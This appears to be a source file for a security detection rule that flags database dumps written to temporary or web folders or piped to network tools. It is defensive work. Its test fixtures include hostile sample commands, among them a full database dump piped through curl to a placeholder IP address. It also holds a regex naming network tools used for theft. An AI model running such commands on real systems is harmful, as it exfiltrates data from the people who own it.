import { commandRule } from "../../command-rule.js";

/** A whole database was written to a temporary folder, to a web folder or straight into the network. */
export const databaseDumpedToTemp = commandRule({
  id: "database-dumped-to-temp",
  alertType: "Picket_DatabaseDumpedToTemp",
  name: "Database dumped to an unusual place",
  severity: "Medium",
  about: "A whole database was written to a temporary folder, to a web folder or straight into the network.",
  tactics: ["Collection", "Exfiltration"],
  techniques: ["T1005", "T1213"],
  falsePositives: ["Administrators who move a database by hand."],
  witness: ["mysqldump", "pg_dump", "mongodump", "sqlite3", "redis-cli", "influx", "mariadb-dump"],
  sees: (reading) => {
    const dump = reading.pipelines.find(
      (commands) =>
        /^(?:mysqldump|mariadb-dump|pg_dump(?:all)?|mongodump|influxd?|sqlite3)$/.test(
          commands[0]?.name ?? "",
        ) &&
        (commands[0]?.name !== "sqlite3" || /\.dump|\.backup/.test(commands[0]?.text ?? "")) &&
        (/\/(?:tmp|dev\/shm|var\/tmp|var\/www)\//.test(
          commands
            .map(({ text, redirections }) => `${text} ${redirections.map(({ target }) => target).join(" ")}`)
            .join(" "),
        ) ||
          commands.slice(1).some(({ name }) => /^(?:curl|nc|ncat)$/.test(name))),
    );
    return dump?.map(({ text }) => text).join(" | ");
  },
  did: "dumped a database to an unusual place",
  because: "data is taken like this",
  fires: [
    "sh -c mysqldump --all-databases > /tmp/d.sql",
    "sh -c pg_dumpall | curl -T - http://203.0.113.9/d",
    "mongodump --out /dev/shm/m/",
  ],
  silent: [
    "sh -c mysqldump app > /backup/app.sql",
    "pg_dump -Fc app -f /srv/backup/app.dump",
    "sqlite3 /tmp/app.db .tables",
    "redis-cli ping",
    "sh -c pg_dump app | gzip > /backup/a.gz",
  ],
});
